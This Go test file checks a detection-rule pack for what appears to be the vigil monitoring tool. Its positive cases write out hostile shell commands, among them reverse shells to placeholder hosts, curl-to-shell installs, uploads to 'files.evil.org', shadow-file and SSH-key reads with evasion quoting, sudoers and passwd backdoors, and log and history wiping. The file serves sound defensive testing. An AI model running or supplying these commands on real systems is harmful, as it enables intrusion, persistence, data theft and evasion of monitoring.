package rules

import (
	"testing"
	"time"

	"github.com/vigilhq/vigil"
)

// day is a weekday time inside every default window.
var day = time.Date(2026, 3, 4, 12, 0, 0, 0, time.UTC)

func TestBuiltinPack(t *testing.T) {
	t.Parallel()
	tests := map[string]struct{ pos, neg []string }{
		"shadow-read": {
			pos: []string{`cat /etc/shadow`, `/usr/bin/cat "/etc/shadow"`, `sudo -u root less '/etc//shadow'`, `env X=1 command \cat /etc/shadow`, `cp ~/.ssh/id_rsa /tmp/k`, `base64 server.key`, `sudo cat /etc/shadow | grep root`, `c''at /etc/sh""adow`, `ca\t /etc/shad\ow`, `xargs cat < /etc/shadow`, `echo $(cat /etc/shadow)`, `sh -c "cat /etc/shadow"`, `dd if=/etc/shadow of=/tmp/x`},
			neg: []string{`ls -l /etc/shadow`, `cat /etc/passwd`, `cat /etc/ssl/certs/ca.pem`, `cat ~/.ssh/id_rsa.pub`},
		},
		"root-shell": {
			pos: []string{`sudo -i`, `sudo su -`, `sudo -u root -i`, `sudo -s`, `sudo bash`, `su -`, `/bin/su -`, `su root`, `doas -s`},
			neg: []string{`sudo -u postgres -i`, `sudo ls /root`, `su - alice`, `sudo bash -c 'id'`, `su -c 'id' root`},
		},
		"sudoers-edit": {
			pos: []string{`visudo`, `sudo vim /etc/sudoers`, `echo 'bob ALL=(ALL) NOPASSWD:ALL' | sudo tee -a /etc/sudoers.d/bob`, `echo "x" >> /etc/sudoers`, `nano "/etc/sudoers.d/90-cloud"`},
			neg: []string{`visudo -c`, `cat /etc/sudoers`, `sudo -l`},
		},
		"account-change": {
			pos: []string{`useradd -m eve`, `sudo adduser eve`, `usermod -aG sudo eve`, `gpasswd -a eve wheel`, `/usr/sbin/groupadd ops`, `vi /etc/passwd`, `echo 'x:x:0:0::/:/bin/sh' >> /etc/passwd`},
			neg: []string{`id eve`, `cat /etc/group`, `usermod --help`},
		},
		"history-tamper": {
			pos: []string{`history -c`, `rm ~/.bash_history`, `> ~/.bash_history`, `unset HISTFILE`, `export HISTFILE=/dev/null`, `HISTSIZE=0`, `shred -u .bash_history`, `set +o history`},
			neg: []string{`history`, `cat ~/.bash_history`, `export HISTSIZE=10000`, `export HISTFILE=~/.bash_history_work`},
		},
		"audit-stop": {
			pos: []string{`systemctl stop auditd`, `sudo systemctl disable --now vigil-agent`, `service auditd stop`, `pkill auditd`, `auditctl -e 0`, `systemctl mask systemd-journald.service`},
			neg: []string{`systemctl status auditd`, `systemctl restart nginx`, `auditctl -l`, `kill 1234`},
		},
		"pipe-to-shell": {
			pos: []string{`curl -fsSL https://x.io/i.sh | sh`, `wget -qO- http://x/a | bash`, `curl https://x | sudo bash`, `bash <(curl -s https://x)`, `sh -c "$(curl -fsSL https://x)"`},
			neg: []string{`curl -o install.sh https://x`, `curl https://api | jq .`, `bash install.sh`, `curl https://x | python3 -m json.tool`},
		},
		"reverse-shell": {
			pos: []string{`nc -e /bin/sh 10.0.0.1 4444`, `ncat --exec /bin/bash 1.2.3.4 80`, `bash -i >& /dev/tcp/1.2.3.4/443 0>&1`, `socat tcp:1.2.3.4:80 exec:'bash -li',pty,stderr`, `python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("1.2.3.4",80));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])'`, `rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 1.2.3.4 1234 >/tmp/f`},
			neg: []string{`nc -zv db1 5432`, `socat TCP-LISTEN:8080 TCP:localhost:80`, `python3 -c 'print(1)'`, `mkfifo /tmp/pipe`},
		},
		"bulk-copy-out": {
			pos: []string{`scp -r /data alice@203.0.113.5:/tmp/`, `rsync -avz /srv/ backup.example.com:/x`, `curl -T dump.sql https://transfer.sh/d.sql`, `curl --upload-file a.tar ftp://files.evil.org/`, `rclone copy /data gdrive:stolen`},
			neg: []string{`scp file db1:/tmp`, `rsync -a /srv/ 10.0.0.5:/backup`, `scp a backup.corp.internal:/x`, `curl https://example.com`, `cp -r /data /mnt/usb`},
		},
		"db-dump": {
			pos: []string{`mysqldump --all-databases > all.sql`, `sudo -u postgres pg_dump app`, `/usr/bin/pg_dumpall -f x`, `mongodump --out /tmp/m`},
			neg: []string{`mysql -e 'select 1'`, `psql -c 'select 1'`, `pg_restore x.dump`},
		},
		"mass-delete": {
			pos: []string{`rm -rf /var/lib/mysql`, `sudo rm -fr /srv/*`, `rm -r -f /data/customers`, `rm --recursive --force /home/bob`, `\rm -Rf /`, `rm -rf "/var/www/html"`},
			neg: []string{`rm -rf /tmp/build`, `rm /data/x.log`, `rm -rf ./node_modules`},
		},
		"crypto-miner": {
			pos: []string{`./xmrig -o pool.minexmr.com:4444`, `/tmp/.x/minerd -a cryptonight`, `nohup ethminer -P x &`, `./run -o stratum+tcp://pool.example:3333 -u w`, `t-rex -a ethash`},
			neg: []string{`top`, `ps aux | grep miner`, `cat miner.txt`},
		},
		"firewall-off": {
			pos: []string{`ufw disable`, `sudo systemctl stop firewalld`, `iptables -F`, `iptables -P INPUT ACCEPT`, `nft flush ruleset`, `systemctl disable --now nftables`},
			neg: []string{`ufw status`, `iptables -L -n`, `iptables -A INPUT -p tcp --dport 22 -j ACCEPT`, `nft list ruleset`},
		},
		"authorized-keys": {
			pos: []string{`echo 'ssh-ed25519 AAAA' >> ~/.ssh/authorized_keys`, `vi /root/.ssh/authorized_keys`, `cat k.pub | sudo tee -a /root/.ssh/authorized_keys`, `cp key.pub .ssh/authorized_keys`, `ssh-copy-id bob@db1`},
			neg: []string{`cat ~/.ssh/authorized_keys`, `ssh db1`, `ls ~/.ssh`},
		},
		"setuid": {
			pos: []string{`chmod u+s /bin/bash`, `sudo chmod 4755 /tmp/sh`, `chmod +s ./x`, `chmod g+s /srv/shared`},
			neg: []string{`chmod 755 x`, `chmod +x run.sh`, `chmod 0644 f`},
		},
		"kernel-module": {
			pos: []string{`insmod rootkit.ko`, `sudo modprobe dummy`, `rmmod snd`},
			neg: []string{`lsmod`, `modprobe -n dummy`, `modinfo x`},
		},
		"selinux-off": {
			pos: []string{`setenforce 0`, `sudo setenforce Permissive`, `sed -i 's/SELINUX=enforcing/SELINUX=disabled/' /etc/selinux/config`, `systemctl stop apparmor`},
			neg: []string{`getenforce`, `setenforce 1`, `sestatus`},
		},
		"root-crontab": {
			pos: []string{`sudo crontab -e`, `echo '* * * * * root /tmp/x' >> /etc/crontab`, `cp job /etc/cron.d/job`, `sudo crontab -u bob evil.txt`},
			neg: []string{`crontab -l`, `sudo crontab -l`, `cat /etc/crontab`},
		},
		"log-wipe": {
			pos: []string{`rm -f /var/log/auth.log`, `echo > /var/log/syslog`, `truncate -s 0 /var/log/secure`, `journalctl --vacuum-time=1s`, `shred /var/log/wtmp`},
			neg: []string{`tail -f /var/log/syslog`, `journalctl -u ssh`, `grep x /var/log/auth.log`},
		},
	}
	pack := map[string]BuiltinRule{}
	for _, b := range Builtin() {
		pack[b.ID] = b
	}
	for id, tc := range tests {
		b, ok := pack[id]
		if !ok {
			t.Fatalf("no built-in rule %q", id)
		}
		p, err := Compile(b.Expression)
		if err != nil {
			t.Fatalf("%s: %v", id, err)
		}
		for _, c := range tc.pos {
			if ok, err := p.Match(vigil.RuleEvent{Type: "command", Time: day, User: "bob", Command: c}); !ok || err != nil {
				t.Errorf("%s: %q did not match (err %v)", id, c, err)
			}
		}
		for _, c := range tc.neg {
			if ok, err := p.Match(vigil.RuleEvent{Type: "command", Time: day, User: "bob", Command: c}); ok || err != nil {
				t.Errorf("%s: %q matched (err %v)", id, c, err)
			}
		}
	}
}

func TestBuiltinEventRules(t *testing.T) {
	t.Parallel()
	night := time.Date(2026, 3, 4, 23, 0, 0, 0, time.UTC)
	sat := time.Date(2026, 3, 7, 12, 0, 0, 0, time.UTC)
	tests := []struct {
		id   string
		ev   vigil.RuleEvent
		want bool
	}{
		{"login-off-hours", vigil.RuleEvent{Type: "login", Time: night}, true},
		{"login-off-hours", vigil.RuleEvent{Type: "login", Time: sat}, true},
		{"login-off-hours", vigil.RuleEvent{Type: "login", Time: day.Add(-5 * time.Hour)}, true},
		{"login-off-hours", vigil.RuleEvent{Type: "login", Time: day}, false},
		{"login-off-hours", vigil.RuleEvent{Type: "command", Time: night}, false},
		{"db-dump", vigil.RuleEvent{Type: "command", Time: night, Command: "pg_dump app"}, false},
		{"db-dump", vigil.RuleEvent{Type: "command", Time: day, Command: "pg_dump app"}, true},
		{"root-shell", vigil.RuleEvent{Type: "su", TargetUser: "root"}, true},
		{"root-shell", vigil.RuleEvent{Type: "su", TargetUser: "alice"}, false},
		{"root-shell", vigil.RuleEvent{Type: "sudo", TargetUser: "root", Command: "/bin/bash"}, true},
		{"account-change", vigil.RuleEvent{Type: "user_added", TargetUser: "eve"}, true},
		{"shadow-read", vigil.RuleEvent{Type: "sudo", Command: "/usr/bin/cat /etc/shadow"}, true},
		{"shadow-read", vigil.RuleEvent{Type: "login", Command: "cat /etc/shadow"}, false},
		{"shadow-read", vigil.RuleEvent{Type: "command", Argv: []string{"cat", "/etc/shadow"}}, true},
		{"first-login", vigil.RuleEvent{Type: "login", User: "bob", Host: "db1"}, true},
		{"login-burst-failed", vigil.RuleEvent{Type: "login_failed"}, true},
		{"password-spray", vigil.RuleEvent{Type: "login_failed", SourceIP: "1.2.3.4"}, true},
		{"password-spray", vigil.RuleEvent{Type: "login_failed"}, false},
	}
	pack := map[string]BuiltinRule{}
	for _, b := range Builtin() {
		pack[b.ID] = b
	}
	for _, tc := range tests {
		p, err := Compile(pack[tc.id].Expression)
		if err != nil {
			t.Fatalf("%s: %v", tc.id, err)
		}
		if got, err := p.Match(tc.ev); got != tc.want || err != nil {
			t.Errorf("%s %+v: got %v (err %v), want %v", tc.id, tc.ev, got, err, tc.want)
		}
	}
}

func TestBuiltinPackValid(t *testing.T) {
	t.Parallel()
	ids := map[string]bool{}
	rules := BuiltinRules()
	if len(rules) < 22 {
		t.Errorf("pack has %d rules, want at least 22", len(rules))
	}
	for _, r := range rules {
		if ids[r.Builtin] {
			t.Errorf("duplicate id %s", r.Builtin)
		}
		ids[r.Builtin] = true
		if _, err := r.Input().Normalize(); err != nil {
			t.Errorf("%s: %v", r.Builtin, err)
		}
		if _, err := Compile(r.Expression); err != nil {
			t.Errorf("%s: %v", r.Builtin, err)
		}
		if len(r.Controls) == 0 || r.Description == "" {
			t.Errorf("%s: needs controls and a description", r.Builtin)
		}
	}
	if _, err := NewEngine(rules); err != nil {
		t.Fatal(err)
	}
}
